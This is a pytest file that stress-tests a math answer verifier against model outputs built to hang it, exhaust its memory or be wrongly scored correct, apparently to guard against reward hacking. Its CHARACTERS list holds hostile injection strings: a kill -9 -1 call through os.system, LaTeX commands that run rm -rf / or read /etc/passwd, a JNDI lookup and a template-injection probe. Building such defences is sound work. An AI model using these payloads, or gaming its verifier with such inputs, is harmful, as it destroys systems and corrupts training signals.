"""What a model may write to stop, bloat or fool its verifier, and that it harms none but itself."""

import time

import psutil
import pytest

from rewards.math import Math

SECONDS = 2.0
MEMORY_GB = 2.0
LETTERS = "&".join(f"a_{{{n}}}" for n in range(20))
TOWERS = [
    "9^{9^{9^{9}}}",
    "9**9**9**9",
    "9^{9^9}",
    "2^{1000000000}",
    "10^{10^{10}}",
    "10^{10^{10^{10}}}",
    "e^{e^{e^{e^9}}}",
    "\\sqrt{9^{9^{9^9}}}",
    "(9^{9^9})^{-1}",
    "\\log 10^{10^{10^{10}}}",
    "\\log\\log\\log 10^{10^{10^{10}}}",
    "i^{9^{9^9}}",
    "1.0000001^{10^{15}}",
    "(1+\\frac{1}{10^9})^{10^9}",
    "0^{0^{0^0}}",
]
FACTORIALS = [
    "1000000000!",
    "9!!!!!!",
    "((9!)!)!",
    "1000000!",
    "\\Gamma(10^{10})",
    "\\binom{10^9}{5\\cdot10^8}",
    "\\binom{2000000}{1000000}",
    "\\binom{9^{9^9}}{2}",
    "(10^6)! \\bmod 7",
    "\\gcd(10^{10^9}, 6)",
]
SUMS = [
    "\\sum_{i=1}^{10^9} i^i",
    "\\sum_{i=1}^{1000000} \\frac{1}{i^i}",
    "\\prod_{i=1}^{10^7}(i+\\sqrt{i})",
    "\\sum_{n=1}^{\\infty}\\sin(n!)",
    "\\int_0^1 x^{x^{x^x}} dx",
    "\\lim_{x\\to\\infty} \\frac{x!}{x^x}",
    "\\sum_{i=1}^{10}\\sum_{j=1}^{10^8} ij",
    "\\int e^{-x^2}\\sin(x^x)dx",
    "\\frac{d^{1000}}{dx^{1000}} \\tan(x)",
    "\\prod_{p} (1-p^{-s})^{-1}",
]
ALGEBRA = [
    "(x+1)^{100000}",
    "(x+y+z+1)^{200}",
    "(a+b+c+d+e+f)^{50}",
    "x^{17}-3x^{11}+5x^7-x^3+2x-11=0",
    "\\frac{(x+1)^{300}}{(x-1)^{300}}",
    "\\sin(\\sin(\\sin(\\sin(\\sin(x^{100})))))",
    "\\cos(1)^{5000}+\\sin(1)^{5000}",
    "\\lfloor\\pi^{10000000}\\rfloor",
    "\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}^{1000000}",
    "\\det\\begin{pmatrix}" + "\\\\".join([LETTERS] * 20) + "\\end{pmatrix}",
    "\\{" + ",".join(f"\\sqrt{{{n}}}" for n in range(300)) + "\\}",
    "\\{" + ",".join(f"\\sin({n})+\\cos({n})" for n in range(12)) + "\\}",
    "\\sqrt{1+" * 200 + "1" + "}" * 200,
    "+".join(f"\\sqrt{{{n}}}" for n in range(2, 90)),
    "\\frac{1}{" * 300 + "2" + "}" * 300,
    "x^" * 500 + "x",
]
NESTING = [
    "(" * 5000 + "1" + ")" * 5000,
    "[" * 50000,
    "{" * 50000,
    "\\left(" * 2000 + "1" + "\\right)" * 2000,
    "\\boxed{" * 2000,
    "\\boxed{" * 2000 + "4" + "}" * 2000,
    "}" * 10000,
    "\\boxed{{{{{4",
    "\\frac" * 5000,
    "\\sqrt" * 5000,
    "-" * 10000 + "4",
    "^" * 10000,
    "\\text{" * 3000 + "4" + "}" * 3000,
    "<answer>" * 10000,
    "</think>" * 10000,
    "<think>" * 10000,
    "|" * 9999,
    "\\\\" * 20000,
]
LOOPS = [
    "1 " * 30000,
    "1" * 100000,
    "9" * 100000 + "!",
    "$ $ $ " * 17000,
    "\\[ \\[ \\[ " * 11000,
    "\\] " * 33000,
    "4, " * 33000,
    "4 or " * 20000,
    "4=" * 50000 + "4",
    "1+" * 50000 + "1",
    "the the the " * 8000,
    "\\boxed{4} " * 10000,
    "0." + "3" * 100000,
    "4" + "0" * 99999,
    "x" * 100000,
    "a_" * 50000,
    "1,000," * 16000,
    "\n" * 100000,
    " " * 100000,
    "\\ " * 50000,
]
CHARACTERS = [
    "\x00",
    "4\x00",
    "\ud800",
    "4\udfff",
    "\u202e24",
    "\u200f2\u200e4",
    "\x1b[31m41\x1b[0m",
    "\x1b]0;title\x07" * 1000,
    "\ufeff" * 1000,
    "\u0301" * 5000,
    "4" + "\u0336" * 5000,
    "\U0001f4a5" * 2000,
    "\u4e8c",
    "\x7f\x80\x9f",
    "4\u20e3",
    "\r" * 10000,
    "\u2028" * 10000,
    "__import__('os').system('kill -9 -1')",
    "\\input{/etc/passwd}",
    "\\write18{rm -rf /}",
    "{{7*7}}",
    "%s%n%x" * 1000,
    "${jndi:ldap://x}",
]
ATTACKS = [*TOWERS, *FACTORIALS, *SUMS, *ALGEBRA, *NESTING, *LOOPS, *CHARACTERS]
NEIGHBOURS = [
    ("\\boxed{\\frac{84}{2}}", "42", 1),
    ("\\boxed{43}", "42", 0),
    ("\\boxed{2\\sqrt{2}}", "\\sqrt{8}", 1),
    ("\\boxed{(x+1)^2}", "x^2+2x+1", 1),
    ("\\boxed{(x-1)^2}", "x^2+2x+1", 0),
]


@pytest.fixture(scope="module")
def verifier():
    return Math(seconds=SECONDS, memory_gb=MEMORY_GB, workers=2)


def test_there_are_enough_of_them():
    assert len(set(ATTACKS)) >= 110


@pytest.mark.parametrize("wrapped", [False, True], ids=["plain", "boxed"])
def test_no_attack_is_right_nor_hangs_nor_harms_its_neighbours(verifier, wrapped):
    cases = []
    for n, attack in enumerate(ATTACKS):
        cases += [(f"\\boxed{{{attack}}}" if wrapped else attack, "42", 0), NEIGHBOURS[n % len(NEIGHBOURS)]]
    started = time.monotonic()
    scores = verifier([response for response, _, _ in cases], [answer for _, answer, _ in cases])
    took = time.monotonic() - started
    assert [(score.value, response[:60]) for score, (response, _, _) in zip(scores, cases, strict=True)] == [
        (value, response[:60]) for response, _, value in cases
    ]
    stopped = sum(bool(score.fault) for score in scores)
    # What is stopped takes its limit of one of two verifiers, and starts that again; all else next to nothing.
    assert took < 30 + stopped * (2.5 * SECONDS + 3) / 2


def test_no_attack_is_right_when_it_is_the_reference_as_well(verifier):
    """Gold answers are data and may be as bad; what a verifier cannot read it must not wave through as another text."""
    scores = verifier(["\\boxed{41}"] * len(ATTACKS), [attack or "42" for attack in ATTACKS])
    assert sum(score.value for score in scores) == 0


@pytest.mark.skipif(not psutil.LINUX, reason="limits of address space are Linux's")
def test_no_attack_bloats_a_verifier_past_its_limit(verifier):
    children = [p for p in psutil.Process().children(recursive=True) if "child.py" in " ".join(p.cmdline())]
    assert children
    for child in children:
        assert child.memory_info().vms < MEMORY_GB * 1e9 * 1.01
